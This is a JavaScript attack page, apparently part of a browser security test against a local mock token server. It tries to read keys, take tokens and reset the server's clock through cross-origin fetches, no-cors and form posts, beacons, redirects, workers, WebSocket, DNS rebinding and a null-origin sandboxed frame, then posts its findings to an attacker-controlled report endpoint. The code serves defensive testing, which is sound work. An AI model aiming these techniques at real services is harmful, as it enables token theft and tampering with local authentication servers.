// What a hostile page tries. `tried(name, promise)` tells the attacker's server what came of it: a text when something was
// read, else "no: why". Places are put in by browser_attack.py.
const reports = [];
const no = why => "no: " + why;
async function tried(name, making) {
  let what;
  try { what = String(await making()); } catch (error) { what = no(error); }
  reports.push([name, what]);
}
const text = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.type === "opaque" ? no("opaque") : "read " + answer.status + ": " + (await answer.text()).slice(0, 300);
};
const FORM = {"Content-Type": "application/x-www-form-urlencoded"}, JSON_TYPE = {"Content-Type": "application/json"};

function element(kind, url, more = {}) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(kind), more);
    made.onload = () => done(["iframe", "embed", "object"].includes(kind) ? no("loaded, and not readable") : "loaded");
    made.onerror = () => done(no("error"));
    if (kind === "link") Object.assign(made, {rel: "stylesheet", href: url});
    else made[kind === "object" ? "data" : "src"] = url;
    document.body.append(made);
    setTimeout(() => done(no("nothing happened")), 5000);
  });
}

function postForm(url, fields, encoding, target = "sink" + Math.random()) {
  return new Promise(done => {
    const frame = Object.assign(document.createElement("iframe"), {name: target});
    const form = Object.assign(document.createElement("form"), {action: url, method: "POST", enctype: encoding, target});
    for (const [name, value] of Object.entries(fields))
      form.append(Object.assign(document.createElement("textarea"), {name, value}));
    document.body.append(frame, form);
    frame.onload = () => {
      if (!form.sent) return;
      let read = null;
      try { read = frame.contentDocument && frame.contentDocument.body.innerText; } catch (error) { read = null; }
      done(read ? "read " + read.slice(0, 300) : no("not readable"));
    };
    form.sent = true;
    form.submit();
    setTimeout(() => done(no("nothing happened")), 5000);
  });
}

// `base` as the page reaches the practice authority; `own`: the page's own origin is that (rebound).
async function attackOn(base, own) {
  const body = new URLSearchParams(FIELDS).toString();
  const token = base + TOKEN, control = base + CONTROL, keys = base + KEYS;
  const each = (name, making) => tried(base + " " + name, making);
  await each("GET keys", () => text(keys));
  await each("GET keys with credentials", () => text(keys, {credentials: "include"}));
  await each("POST token", () => text(token, {method: "POST", headers: FORM, body}));
  await each("POST reset as JSON", () => text(control + "/reset", {method: "POST", headers: JSON_TYPE, body: "{}"}));
  await each("POST clock as JSON",
    () => text(control + "/clock", {method: "POST", headers: JSON_TYPE, body: '{"ahead_seconds":86400}'}));
  await each("GET requests", () => text(control + "/requests"));
  await each("PUT", () => text(token, {method: "PUT", body}));
  await each("me", () => text(base + "/v1.0/me", {headers: {Authorization: "Bearer x"}}));
  await each("POST token by form", () => postForm(token, FIELDS, "application/x-www-form-urlencoded"));
  await each("POST token by text form", () => postForm(token, FIELDS, "text/plain"));
  await each("POST token by multipart form", () => postForm(token, FIELDS, "multipart/form-data"));
  await each("beacon token", () => no(navigator.sendBeacon(token, new Blob([body], {type: FORM["Content-Type"]}))));
  await each("beacon reset", () => no(navigator.sendBeacon(control + "/reset", "{}")));
  if (own) return;
  await each("no-cors GET", () => text(keys, {mode: "no-cors"}));
  await each("no-cors POST token", () => text(token, {mode: "no-cors", method: "POST", headers: FORM, body}));
  await each("no-cors POST reset", () => text(control + "/reset", {mode: "no-cors", method: "POST", body: "{}"}));
  const post = {method: "POST", headers: FORM, body}, opaquely = {...post, mode: "no-cors"};
  await each("no referrer POST token", () => text(token, {...opaquely, referrerPolicy: "no-referrer"}));
  await each("307 to the token endpoint", () => text("/to?" + encodeURIComponent(token), post));
  await each("307 no-cors", () => text("/to?" + encodeURIComponent(token), opaquely));
  for (const kind of ["img", "script", "link", "iframe", "object", "embed", "video"])
    await each(kind, () => element(kind, keys));
  await each("worker", () => new Promise(done => {
    const script = `try{importScripts(${JSON.stringify(keys)});postMessage("loaded")}catch(e){postMessage("no: "+e)}`;
    const made = new Worker(URL.createObjectURL(new Blob([script])));
    made.onmessage = event => done(event.data);
  }));
  await each("service worker", async () => { await navigator.serviceWorker.register(keys); return "registered"; });
  await each("WebSocket", () => new Promise(done => {
    const socket = new WebSocket(token.replace(/^http/, "ws"));
    socket.onopen = () => done("open");
    socket.onerror = () => done(no("error"));
  }));
  await each("EventSource", () => new Promise(done => {
    const source = new EventSource(keys);
    source.onopen = () => done("open");
    source.onerror = () => { source.close(); done(no("error")); };
  }));
  await each("window", () => new Promise(done => {
    const opened = window.open(keys);
    setTimeout(() => {
      let read = null;
      try { read = opened && opened.document.body.innerText; } catch (error) { read = null; }
      if (opened) opened.close();
      done(read ? "read " + read : no("not readable"));
    }, 1000);
  }));
}

// The page's own name turns into another address while it stands there; then the authority is its own origin.
async function untilRebound() {
  for (;;) {
    let marked = null;
    try {
      marked = await (await fetch("/marked?" + Math.random(), {cache: "no-store"})).text();
    } catch (error) { marked = null; }
    if (marked !== MARK) return;
    await fetch("/flip", {cache: "no-store"}).catch(() => null);
    await new Promise(go => setTimeout(go, 500));
  }
}

// "Origin: null": a frame without an origin of its own does the same.
async function fromNullOrigin(bases) {
  const made = document.createElement("iframe");
  made.sandbox = "allow-scripts allow-forms";
  const heard = new Promise(done => { window.onmessage = event => done(event.data); });
  const run = `(async()=>{for(const base of ${JSON.stringify(bases)})await attackOn(base,true);`
    + "parent.postMessage(reports,'*')})()";
  made.srcdoc = "<body></body><script>" + SCRIPT + "\n" + run + "</" + "script>";
  document.body.append(made);
  for (const [name, what] of await heard) reports.push(["Origin null: " + name, what]);
}

async function whole(kind, bases) {
  if (kind === "rebind") await untilRebound();
  for (const base of bases) await attackOn(base, kind === "rebind");
  if (kind === "page") await fromNullOrigin(bases);
  const sent = JSON.stringify({kind: KIND, reports});
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: sent});
}
